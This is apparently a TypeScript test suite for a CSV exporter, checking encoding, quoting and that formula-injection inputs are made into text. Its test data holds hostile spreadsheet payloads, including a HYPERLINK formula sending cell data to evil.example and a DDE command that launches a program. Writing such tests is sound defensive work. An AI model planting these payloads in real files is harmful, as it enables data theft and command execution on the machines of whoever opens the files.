import Papa from 'papaparse';
import { toCsv } from './toCsv';

/** Reads a file with a program that is not ours, as a spreadsheet with this separator does. */
function read(csv: string, delimiter = ','): string[][] {
  const { data, errors } = Papa.parse<string[]>(csv, { delimiter, newline: '\r\n', skipEmptyLines: true });
  expect(errors).toEqual([]);
  return data;
}

const cellsOf = (...cells: (string | number | null)[]): string[] | undefined => read(toCsv([cells]))[0];

it('writes UTF-8 with a byte order mark, quoted texts, plain numbers and CRLF', () => {
  expect(
    toCsv([
      ['Text', 'Seconds'],
      ['a', 134],
      [null, 0.5],
    ]),
  ).toBe('\uFEFF"Text","Seconds"\r\n"a",134\r\n,0.5\r\n');
});

it.each([
  'commas, and; semicolons',
  '"quoted" and ""twice""',
  'two\nlines',
  'two\r\nlines\r\n',
  'emoji 👩🏽‍💻 and family 👨‍👩‍👧',
  'שלום, עבודה טובה',
  'مرحبا',
  'ends with a quotation mark"',
  '',
  ' spaces ',
  "it's",
])('is read as it was written: %j', (text) => {
  expect(cellsOf('before', text, 'after')).toEqual(['before', text, 'after']);
});

it.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\ttext',
  '  =1',
  '\u00A0=1',
  '\u3000＝1',
  '\u200B=1',
  '\u202E=1',
  '\uFEFF=1',
  '"=1',
  '＝1',
  '＋1',
  '－1',
  '＠A',
  '﹦1',
  '−1',
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "=cmd|'/C calc'!A0",
])('makes the formula %j a text', (text) => {
  expect(cellsOf(text)?.[0]).toMatch(/^'/);
});

it.each(['a\n=1', 'a\r\n=1', 'a\r=1', 'a\u2028=1', 'a;=1', 'a; "=1', 'a\t=1', 'a；=1'])(
  'makes the formula after a place where a program could begin a new cell a text: %j',
  (text) => {
    expect(toCsv([[text]])).toMatch(/'[\s"]*=1/);
  },
);

it.each([';', '\t', '|'])('has no formula for a program that separates cells by %j', (delimiter) => {
  const hostile = ['x";=1+1', 'x\n=1+1', 'x;+1', 'x\t@A1', '=1+1', 'x";"=1+1', '";=1+1'];
  const csv = toCsv(hostile.map((text) => ['first', text, 'last']));
  // Such a program takes quotation marks inside of a cell as they are.
  const pieces = csv.split(new RegExp(`[\\r\\n${delimiter === '|' ? '\\|' : delimiter}]`));

  for (const piece of pieces) expect(piece.replace(/^[\s"\uFEFF]+/, '')).not.toMatch(/^[=+\-@]/);
});

it('leaves signs inside of a text as they are', () => {
  const text = 'From 2-3 to 5, - and a=b, mail me@example.com';
  expect(cellsOf(text)).toEqual([text]);
});

it('keeps numbers as numbers, also negative ones, and leaves out what is none', () => {
  expect(toCsv([[-2, 0, NaN, Infinity]])).toBe('\uFEFF-2,0,,\r\n');
});

it('replaces what no file can have', () => {
  expect(cellsOf('a\u0000b', 'half \uD83D of a face', '\uDE00')).toEqual([
    'a\uFFFDb',
    'half \uFFFD of a face',
    '\uFFFD',
  ]);
});

it('writes 10,000 comments of hostile texts, which another program reads', () => {
  const hostile = ['=1+1', 'a "b", c', 'x\ny', '👍🏽', 'שלום', '-2;=3'];
  const rows = Array.from({ length: 10_000 }, (_, index) => [hostile[index % hostile.length] ?? '', index]);
  const startedAt = performance.now();
  const csv = toCsv(rows);
  const took = performance.now() - startedAt;

  const data = read(csv);
  expect(data).toHaveLength(10_000);
  expect(data.every((row) => row.length === 2)).toBe(true);
  expect(data[9_999]?.[1]).toBe('9999');
  expect(took).toBeLessThan(2_000);
});

it('is not slow for a text that looks like the start of a formula for a long time', () => {
  const startedAt = performance.now();
  toCsv([[' '.repeat(10_000)], [';'.repeat(10_000)], ['; '.repeat(5_000)]]);

  expect(performance.now() - startedAt).toBeLessThan(2_000);
});
